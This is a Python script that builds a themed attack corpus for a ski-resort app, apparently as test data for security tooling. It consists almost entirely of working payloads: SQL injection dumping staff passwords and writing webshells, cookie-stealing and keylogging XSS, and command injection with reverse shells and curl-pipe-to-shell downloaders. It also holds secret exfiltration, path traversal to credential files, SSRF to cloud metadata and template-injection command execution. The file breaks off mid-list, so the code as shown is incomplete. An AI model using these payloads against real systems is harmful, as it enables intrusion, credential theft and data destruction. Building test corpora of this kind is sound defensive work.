#!/usr/bin/env python3
"""Attack corpus for skiresort (ski resort operations and guest app). Stdlib only.

Every literal below was written by hand for this theme. The only computed values are
TEMPLATED rows: a hand-written theme prefix joined to a hand-written payload, or one
hand-written payload passed through one encoding (percent-encoding)."""
import json
import os
import random
import urllib.parse

SEED = 16302
PREFIX = "haf7"
rng = random.Random(SEED)

# ------------------------------------------------------------------ sqli (71 literals)
SQLI = [
    ("note-union-select", "Chair 4 hold' UNION SELECT username, password_hash FROM staff_users-- -"),
    ("note-union-select", "Run 14 groomed' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#"),
    ("search-union-select", "powder%' UNION SELECT pass_no, holder_email, card_last4 FROM season_passes WHERE '%'='"),
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean", "' OR 1=1-- "),
    ("number-boolean", "7734 OR 1=1"),
    ("number-boolean", "1192) OR (1=1"),
    ("pass-id-boolean", "A-55012' OR 'x'='x"),
    ("booking-ref-boolean", "SS-2024-0193' OR 2>1 -- lesson"),
    ("login-comment-bypass", "admin'-- "),
    ("login-comment-bypass", "patrol.lead@resort'/*"),
    ("mysql-sleep", "Gondola B' AND SLEEP(5)-- -"),
    ("mysql-sleep", "DIN 6.5' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- -"),
    ("mysql-benchmark", "Run 3' AND BENCHMARK(5000000,SHA1('powder'))#"),
    ("mysql-if-sleep", "12' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(4),0)-- x"),
    ("pgsql-sleep", "Summit Express'; SELECT pg_sleep(6)--"),
    ("pgsql-sleep", "rental 88421' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("pgsql-case-sleep", "1 AND 1=(CASE WHEN (SELECT current_user)='postgres' THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)"),
    ("mssql-waitfor", "Lift 7'; WAITFOR DELAY '0:0:6'--"),
    ("mssql-waitfor", "7734; IF (SELECT COUNT(*) FROM sysobjects)>0 WAITFOR DELAY '00:00:05'--"),
    ("mssql-stacked-xp_cmdshell", "Booking SS-2024-0201'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.7'--"),
    ("mssql-stacked-exec", "'; EXEC sp_configure 'show advanced options',1; RECONFIGURE;--"),
    ("oracle-dbms-pipe", "Chair 9' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',6)--"),
    ("oracle-union-dual", "Patrol log' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("oracle-utl-http", "x' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("sqlite-union", "Green 1' UNION SELECT sql,name FROM sqlite_master--"),
    ("sqlite-randomblob", "4' AND 1=randomblob(900000000)--"),
    ("error-extractvalue", "Blue 6' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT database()),0x7e))-- -"),
    ("error-updatexml", "Run 22' AND updatexml(1,concat(0x3a,(select user())),1)#"),
    ("error-convert-mssql", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("error-cast-pgsql", "' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("stacked-drop", "Fan gun 14 frozen'; DROP TABLE grooming_plan;--"),
    ("stacked-update", "SP-20931'; UPDATE season_passes SET pass_type='Unlimited', paid=1 WHERE holder_id=4411;--"),
    ("stacked-insert", "great snow'); INSERT INTO staff_users(login,role) VALUES ('ghost','admin');--"),
    ("order-by-probe", "din_value ORDER BY 11-- -"),
    ("sort-param-case", "(CASE WHEN (SELECT SUBSTR(password,1,1) FROM staff_users LIMIT 1)='a' THEN lift_name ELSE lift_id END)"),
    ("number-subquery", "3 AND (SELECT COUNT(*) FROM staff_users WHERE role='admin')>0"),
    ("number-ascii-substr", "14 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64"),
    ("comment-as-space", "Run'/**/UNION/**/SELECT/**/login,pw_hash/**/FROM/**/staff_users#"),
    ("comment-as-space", "1/**/OR/**/1=1"),
    ("mysql-versioned-comment", "Chair 2' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(email),3 FROM guests-- -"),
    ("case-mixing", "pow' uNiOn SeLeCt NuLl,CoNcAt(login,0x3a,pw) fRoM staff_users-- -"),
    ("newline-as-space", "Red 7'\nUNION\nSELECT\npass_no,holder_email\nFROM\nseason_passes--"),
    ("tab-as-space", "Black 2'\tOR\t1=1\t--\t"),
    ("hex-literal", "' UNION SELECT 1,load_file(0x2f6574632f706173737764)-- -"),
    ("char-function", "' UNION SELECT CHAR(97,100,109,105,110),2-- "),
    ("mysql-into-outfile", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/board.php'-- -"),
    ("pgsql-copy-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.40/p|sh';--"),
    ("pgsql-dollar-quote", "1; SELECT $$x$$||(SELECT passwd FROM pg_shadow LIMIT 1)::int--"),
    ("like-wildcard-bypass", "' OR login LIKE 'adm%'-- "),
    ("no-space-parens", "'OR(1)=(1)#"),
    ("no-space-parens", "Run5'||(SELECT(1)FROM(SELECT(SLEEP(5)))a)||'"),
    ("pgsql-chr-stacked", "Run 3'; SELECT CHR(65)||CHR(66) FROM pg_sleep(4)--"),
    ("double-quote-context", "Chair 4\" OR \"\"=\""),
    ("backslash-escape-trick", "Gipfel\\' OR 1=1-- -"),
    ("having-error", "' HAVING 1=1--"),
    ("group-by-error", "' GROUP BY lift_id,lift_name HAVING 1=1--"),
    ("between-boolean", "' OR 5 BETWEEN 4 AND 6-- "),
    ("mysql-rlike", "' OR login RLIKE '^a'#"),
    ("mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','Server=203.0.113.9;uid=sa;pwd=x','SELECT 1')--"),
    ("mssql-dns-oob", "'; EXEC master..xp_dirtree '\\\\dns.attacker.example\\share';--"),
    ("h2-alias-rce", "'; CREATE ALIAS EXE AS 'String e(String c) throws Exception{Runtime.getRuntime().exec(c);return c;}'; CALL EXE('id');--"),
    ("review-union-select", "Loved it! 5 stars') UNION SELECT id, api_key FROM integrations-- -"),
    ("limit-injection", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("insert-values-subquery", "Zoë', (SELECT password FROM staff_users LIMIT 1))-- "),
    ("login-hash-comment-bypass", "ski_admin'#"),
    ("true-false-pair", "Lift 4' AND 1=2 UNION SELECT 1,@@hostname,3-- -"),
    ("snow-report-stacked", "new: 12 cm'; DELETE FROM snow_reports WHERE 1=1;--"),
    ("pgsql-lo-export", "'; SELECT lo_export(lo_from_bytea(0,'bad'),'/tmp/x');--"),
    ("oracle-xmltype-error", "' AND 1=XMLType('<:'||(SELECT user FROM dual)||'>')--"),
    ("sqlite-attach", "'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(d text); INSERT INTO p.t VALUES('<?php system($_GET[c]);?>');--"),
]
SQLI_PREFIX = ["Chair 4 on wind hold", "Run 14 groomed", "Booking SS-2024-0193", "Pass #A-55012",
               "DIN 7.5 type III", "Patrol 10:42 Run 14", "new snow 12 cm"]
SQLI_TAIL = [
    ('union-select', "' UNION SELECT login,pw_hash FROM staff_users-- -"),
    ('mysql-sleep', "' AND SLEEP(6)#"),
    ('mssql-waitfor', "'; WAITFOR DELAY '0:0:5'--"),
    ('boolean', "' OR '1'='1'-- "),
    ('pgsql-error-cast', "' AND 1=CAST(version() AS int)--"),
]
SQLI_ENC = [
    ('boolean', "' OR 1=1-- -"),
    ('union-select', "' UNION SELECT NULL,password FROM users--"),
    ('number-sleep', '1 AND SLEEP(5)'),
    ('stacked-drop', "'; DROP TABLE lifts;--"),
]

# ------------------------------------------------------------------ xss (69 literals)
XSS = [
    ("review-script-tag", "Great snow! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("img-onerror", "Chair 4 hold <img src=x onerror=alert(1)>"),
    ("img-onerror", "<img src=/lifts/4.png onerror=\"location='//attacker.example/?'+document.cookie\">"),
    ("svg-onload", "Run 14 <svg onload=alert(document.cookie)>"),
    ("svg-onload-slash", "<svg/onload=confirm`1`>"),
    ("body-onload", "<body onload=alert('patrol')>"),
    ("iframe-javascript", "<iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("anchor-javascript", "Trail map: <a href=\"javascript:fetch('//attacker.example/'+localStorage.token)\">click</a>"),
    ("anchor-js-entity", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">map</a>"),
    ("anchor-js-tab", "<a href=\"java\tscript:alert(1)\">webcam</a>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>Snow report</details>"),
    ("input-autofocus", "<input autofocus onfocus=alert(document.domain)>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "Lift board <marquee onstart=alert(1)>OPEN</marquee>"),
    ("attr-breakout-double", "\" onmouseover=\"alert(1)"),
    ("attr-breakout-autofocus", "Siobhán\" autofocus onfocus=\"alert(document.cookie)\" x=\""),
    ("attr-breakout-single", "O'Brien' onclick='alert(1)' x='"),
    ("tag-breakout-title", "</title><script>alert(1)</script>"),
    ("tag-breakout-textarea", "</textarea><img src=x onerror=alert(1)>"),
    ("js-string-breakout", "';alert(document.cookie);//"),
    ("js-string-breakout", "\";alert(1);//"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("script-close-breakout", "</script><script>alert(1)</script>"),
    ("case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("nested-tag-strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("no-quotes-fromcharcode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("atob-eval", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("html-entity-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("hex-entity-handler", "<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>"),
    ("unicode-escape-js", "<img src=x onerror=\\u0061lert(1)>"),
    ("data-uri-iframe", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
    ("object-data-uri", "<object data=\"data:text/html,<script>alert(1)</script>\"></object>"),
    ("iframe-onload-slash", "<iframe/onload=alert(1)>"),
    ("form-action", "<form action=\"javascript:alert(1)\"><button>Book lesson</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1)>Renew pass</button>"),
    ("meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("base-href", "<base href=\"https://attacker.example/\">"),
    ("style-onload", "<style onload=alert(1)></style>"),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>map</text></a></svg>"),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Lift map</text></a></svg>"),
    ("markdown-link-js", "Snow report [see webcam](javascript:alert(document.cookie))"),
    ("markdown-img-onerror", "![lift](x\"onerror=\"alert(1))"),
    ("angular-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("angular-csti", "Review: {{$on.constructor('alert(document.domain)')()}}"),
    ("vue-csti", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("dom-hash-sink", "#<img src=x onerror=alert(1)>"),
    ("srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("keylogger", "<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
    ("external-script", "Powder alarm! <script src=//attacker.example/x.js></script>"),
    ("import-module", "<script type=module>import('//attacker.example/m.js')</script>"),
    ("onpointer", "<div onpointerover=alert(1) style=position:fixed;inset:0>Lift status</div>"),
    ("svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("dynamic-import-handler", "<img src=x:x onerror=import('//attacker.example/p.js')>"),
    ("slash-separator", "<img/src/onerror=alert(1)>"),
    ("newline-in-tag", "<img\nsrc=x\nonerror=alert(1)>"),
    ("fullwidth-brackets-nfkc", "＜script＞alert(1)＜/script＞"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("chat-svg-fetch", "@Mia look <svg onload=\"fetch('/api/staff/tokens').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">"),
    ("name-field-script", "Zoë<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
    ("table-cell-onerror", "| Run 5 | groomed | <img src=1 onerror=alert(1)> |"),
    ("noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("select-breakout", "</select><svg onload=alert(1)>"),
    ("onanimationstart", "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert(1)>OPEN</b>"),
    ("setTimeout-string", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("window-name-eval", "<body onload=eval(name)>"),
    ("entity-colon-href", "<a href=\"&#x6A;avascript&colon;alert(1)\">Snow report</a>"),
    ("xlink-svg-script", "<svg><script href=data:,alert(1) /></svg>"),
]
XSS_PREFIX = ["Best powder day ever! ", "Chair 4 on wind hold ", "Lesson feedback: ", "Run 14 groomed 04:12 ",
              "Staff party Friday ", "★★★★★ "]
XSS_TAIL = [
    ('img-onerror', '<img src=x onerror=alert(document.cookie)>'),
    ('svg-onload', '<svg onload=alert(1)>'),
    ('script-tag', '<script>alert(document.domain)</script>'),
    ('iframe-javascript', '<iframe src=javascript:alert(1)>'),
]
XSS_ENC = [
    ('script-tag', '<script>alert(1)</script>'),
    ('img-onerror', '<img src=x onerror=alert(1)>'),
    ('attr-breakout-svg', '"><svg onload=alert(1)>'),
]

# ------------------------------------------------------------------ cmdi (62 literals)
CMDI = [
    ("export-filename-semicolon", "counts_2024-02-10.csv; cat /etc/passwd"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| whoami"),
    ("and-chain", "lift_log.txt && curl http://203.0.113.15/x.sh | sh"),
    ("or-chain", "grooming.pdf || wget -qO- http://attacker.example/a | bash"),
    ("backtick-subst", "Run 14 `id`"),
    ("dollar-paren-subst", "Chair 4 $(cat /etc/shadow)"),
    ("dollar-paren-subst", "snow_report_$(whoami).txt"),
    ("newline-separator", "webcam01.jpg\nid"),
    ("reverse-shell-bash", "report.csv; bash -i >& /dev/tcp/203.0.113.22/4444 0>&1"),
    ("reverse-shell-nc", "lift7.log | nc -e /bin/sh 198.51.100.5 9001"),
    ("reverse-shell-mkfifo", "x; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.8 443 >/tmp/f"),
    ("python-reverse", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.31\",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("ifs-space-bypass", "board.txt;cat${IFS}/etc/passwd"),
    ("brace-expansion", "a.csv;{cat,/etc/passwd}"),
    ("quote-split-bypass", "x;c'a't /e\"t\"c/pa''sswd"),
    ("backslash-split", "x;w\\ho\\am\\i"),
    ("wildcard-bypass", "x;/???/c?t /???/p??s??"),
    ("base64-pipe", "x; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("hex-printf", "x;$(printf '\\x69\\x64')"),
    ("env-var-slice", "x;${PATH:0:1}bin${PATH:0:1}id"),
    ("ping-host-injection", "8.8.8.8; cat /var/www/.env"),
    ("ping-host-injection", "lift-gw-04.local && nslookup $(whoami).dns.attacker.example"),
    ("sleep-blind", "Gondola B; sleep 10 #"),
    ("sleep-blind", "cam3.jpg|sleep${IFS}8"),
    ("oob-curl-data", "x; curl -d @/etc/passwd http://attacker.example/up"),
    ("tar-argument-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("curl-argument-injection", "-o /var/www/html/shell.php http://attacker.example/s.txt"),
    ("curl-config-arg", "-K /etc/shadow"),
    ("find-exec-arg", "grooming -exec /bin/sh -c id ;"),
    ("ssh-proxycommand-arg", "-oProxyCommand=sh -c 'curl attacker.example|sh' x"),
    ("git-upload-pack-arg", "--upload-pack=touch /tmp/pwned"),
    ("rsync-e-arg", "-e 'sh -c id' backup01:/x"),
    ("zip-TT-arg", "-TT 'sh -c id' -T"),
    ("sendmail-arg", "patrol@resort.example -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("wget-post-file-arg", "--post-file=/etc/passwd http://attacker.example/"),
    ("imagemagick-filename", "|curl attacker.example/i.sh|sh; .jpg"),
    ("ffmpeg-concat", "webcam.mp4; ffmpeg -i /etc/passwd -f null -"),
    ("windows-ampersand", "lift_counts.xlsx & type C:\\Windows\\win.ini"),
    ("windows-pipe", "| net user ski_admin P4ss! /add"),
    ("windows-double-amp", "report.pdf && certutil -urlcache -split -f http://203.0.113.50/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe"),
    ("windows-caret-bypass", "x & w^h^o^a^m^i"),
    ("windows-quote-split", "x & c^md /c \"who\"\"ami\""),
    ("powershell-iex", "x; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-encoded", "x & powershell -enc dwBoAG8AYQBtAGkA"),
    ("powershell-subexpr", "Chair4 $(Invoke-WebRequest -Uri http://203.0.113.61/b -Method POST -Body (Get-Content C:\\inetpub\\web.config))"),
    ("cmd-for-loop", "x & for /f %i in ('whoami') do nslookup %i.dns.attacker.example"),
    ("perl-oneliner", "; perl -e 'system(\"id\")'"),
    ("php-cli", "x; php -r 'system($_SERVER[\"HTTP_X\"]);'"),
    ("crontab-persist", "x; (crontab -l; echo '* * * * * curl attacker.example/c|sh') | crontab -"),
    ("ssh-key-plant", "x; echo ssh-ed25519 AAAAC3NzaFAKEKEY attacker >> ~/.ssh/authorized_keys"),
    ("redirect-overwrite", "x; echo '<?php system($_GET[0]);' > /var/www/html/lift.php"),
    ("process-substitution", "x; bash <(curl -s http://attacker.example/s)"),
    ("heredoc-like", "x;sh<<<id"),
    ("dns-exfil", "x; dig $(hostname).dns.attacker.example"),
    ("env-dump", "note.txt; env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("kill-service", "x; pkill -9 nginx"),
    ("rm-destructive", "cam.jpg; rm -rf /var/lib/skiresort/*"),
    ("awk-system", "x; awk 'BEGIN{system(\"id\")}'"),
    ("xargs-sh", "x; echo id | xargs sh -c"),
    ("docker-escape", "x; docker run -v /:/h --rm alpine chroot /h sh -c id"),
    ("newline-crlf-separator", "lift_report.pdf\r\ncurl http://203.0.113.77/x|sh"),
]
CMDI_PREFIX = ["grooming_2024-02-03.pdf", "lift_counts.csv", "webcam_summit.jpg", "snow_report.txt",
               "patrol_export.xlsx"]
CMDI_TAIL = [
    ('semicolon', '; cat /etc/passwd'),
    ('and-chain', ' && id'),
    ('reverse-shell-nc', ' | nc 203.0.113.9 4444 -e /bin/sh'),
    ('backtick-subst', ' `curl attacker.example/x|sh`'),
    ('dollar-paren-sleep', '$(sleep 9)'),
    ('windows-ampersand', ' & type C:\\Windows\\win.ini'),
]
CMDI_ENC = [
    ('semicolon', '; cat /etc/passwd'),
    ('pipe', '| id'),
    ('and-chain-curl-sh', '&& curl http://attacker.example/s | sh'),
    ('backtick-sleep', '`sleep 7`'),
]

# ------------------------------------------------------------------ traversal (44 literals)
TRAV = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("grooming-map-dotdot", "grooming/../../../../etc/shadow"),
    ("download-pdf-dotdot", "/downloads/skischool/../../../../../proc/self/environ"),
    ("webcam-dotdot", "webcams/summit/../../../../root/.ssh/id_rsa"),
    ("bulletin-dotdot-null", "region-12/../../../../etc/passwd%00.pdf"),
    ("url-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("url-encoded-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("full-url-encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("double-url-encoded", "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("double-url-encoded-dots", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("percent-u-backslash", "..%u005c..%u005c..%u005cwindows%u005cwin.ini"),
    ("percent-u-dots", "%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("windows-encoded-backslash", "..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
    ("windows-unc", "\\\\203.0.113.12\\share\\lift.pdf"),
    ("windows-drive-absolute", "C:\\inetpub\\wwwroot\\web.config"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-proc", "/proc/self/cmdline"),
    ("nested-strip-bypass", "....//....//....//....//etc/passwd"),
    ("nested-strip-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("dot-slash-padding", "./././../../../.././etc/passwd"),
    ("mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("semicolon-tomcat", "/..;/..;/manager/html"),
    ("file-scheme", "file:///var/www/skiresort/config.php"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config/database.php"),
    ("zip-wrapper", "zip:///var/www/uploads/avatar.jpg#shell.php"),
    ("app-config-target", "../../../../var/www/skiresort/.env"),
    ("app-config-target", "i18n/../../../../app/config/secrets.yml"),
    ("log-target", "../../../../var/log/nginx/access.log"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("aws-creds", "../../../../home/app/.aws/credentials"),
    ("template-name", "templates/../../../../etc/passwd"),
    ("fullwidth-slash-nfkc", "..／..／..／..／etc／passwd"),
    ("two-dot-leader-nfkc", "‥/‥/‥/etc/passwd"),
    ("url-encoded+null-ext", "..%2f..%2f..%2f..%2fetc%2fpasswd%00.png"),
    ("trailing-dot-windows", "..\\..\\..\\web.config."),
    ("zip-slip-entry", "../../../../../var/www/html/pass_photo.php"),
    ("avatar-upload-name", "avatar/../../../../../../etc/cron.d/ski"),
    ("encoded-absolute", "%2fetc%2fpasswd"),
    ("url-encoded-fullwidth-slash", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("dotdot-case-windows", "..\\..\\..\\WINDOWS\\System32\\Config\\SAM"),
]
TRAV_PREFIX = ["grooming/", "webcams/summit/", "downloads/skischool/", "bulletins/2024-02-11/", "reports/lift7/"]
TRAV_TAIL = [
    ('dotdot', '../../../../etc/passwd'),
    ('url-encoded', '..%2f..%2f..%2f..%2fetc%2fshadow'),
    ('windows-backslash', '..\\..\\..\\..\\windows\\win.ini'),
    ('nested-strip-bypass', '....//....//....//proc/self/environ'),
]
TRAV_ENC = [
    ('dotdot', '../../../../etc/passwd'),
    ('dotdot-history', '../../../../root/.bash_history'),
]

# ------------------------------------------------------------------ ssrf (44 literals)
SSRF = [
    ("webcam-url-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-metadata", "https://169.254.169.254/latest/user-data"),
    ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("loopback-admin", "http://127.0.0.1:8080/admin/users"),
    ("loopback-localhost", "http://localhost/server-status"),
    ("ipv6-loopback", "http://[::1]:6379/"),
    ("ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:7f00:1]/"),
    ("decimal-ip", "http://2130706433/"),
    ("decimal-ip-metadata", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0x7f000001/"),
    ("hex-ip-dotted", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("octal-ip", "http://0177.0.0.1/"),
    ("octal-ip-metadata", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("short-ip", "http://127.1/"),
    ("zero-ip", "http://0.0.0.0:9200/_cat/indices"),
    ("rfc1918-internal", "http://10.0.3.17:8500/v1/agent/self"),
    ("rfc1918-internal", "http://192.168.10.1/cgi-bin/luci"),
    ("rfc1918-internal", "http://172.16.0.5:2375/containers/json"),
    ("internal-service-name", "http://lift-controller.internal:9000/api/emergency-stop"),
    ("internal-service-name", "http://pos-db.svc.cluster.local:5432/"),
    ("k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("userinfo-confusion", "http://webcam.skiresort.example@127.0.0.1/admin"),
    ("userinfo-confusion", "https://snow-feed.example.org#@169.254.169.254/latest/meta-data/"),
    ("backslash-confusion", "http://attacker.example\\@127.0.0.1/"),
    ("dns-rebind-wildcard", "http://127.0.0.1.nip.io/admin"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://mail.internal:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme", "file:///etc/passwd"),
    ("file-scheme-windows", "file:///C:/Windows/win.ini"),
    ("ldap-scheme", "ldap://127.0.0.1:389/%0astats%0aquit"),
    ("tftp-scheme", "tftp://203.0.113.44:69/x"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("url-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/admin"),
    ("fullwidth-host", "http://１６９．２５４．１６９．２５４/latest/meta-data/"),
    ("elastic-internal", "http://elasticsearch:9200/_search?q=*"),
    ("aws-ecs-creds", "http://169.254.170.2/v2/credentials/"),
    ("docker-socket-http", "http://127.0.0.1:2375/v1.41/containers/json"),
]
SSRF_PREFIX = ["https://attacker.example/webcam.jpg?r=", "http://203.0.113.20/302?to=",
               "https://snowfeed.attacker.example/redirect?next="]
SSRF_TAIL = [
    ('aws-metadata', 'http://169.254.169.254/latest/meta-data/'),
    ('loopback-redis', 'http://127.0.0.1:6379/'),
    ('hex-ip', 'http://0x7f000001:8080/admin'),
    ('ipv6-loopback', 'http://[::1]/server-status'),
    ('gopher-memcached', 'gopher://127.0.0.1:11211/_stats'),
]
SSRF_ENC = [
    ('aws-metadata', 'http://169.254.169.254/latest/meta-data/iam/'),
    ('consul-kv', 'http://localhost:8500/v1/kv/?recurse'),
]

# ------------------------------------------------------------------ code (71 literals)
CODE = [
    ("jinja2-ssti", "Welcome {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-ssti", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("jinja2-ssti-config", "Hi {{ config.items() }}"),
    ("jinja2-ssti-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja2-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("twig-ssti", "{{ ['id']|filter('system') }}"),
    ("twig-ssti", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("freemarker-ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("freemarker-ssti-api", "${ \"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start() }"),
    ("velocity-ssti", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$r.exec(\"id\")"),
    ("velocity-ssti", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('touch /tmp/v')"),
    ("thymeleaf-ssti", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("smarty-ssti", "{system('id')}"),
    ("smarty-php-tag", "{php}echo `id`;{/php}"),
    ("mako-ssti", "${__import__('os').popen('id').read()}"),
    ("mako-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("tornado-ssti", "{% import os %}{{ os.popen('id').read() }}"),
    ("erb-ssti", "<%= `id` %>"),
    ("erb-ssti", "Lesson note <%= File.read('/etc/passwd') %>"),
    ("slim-ruby-ssti", "#{`cat /etc/passwd`}"),
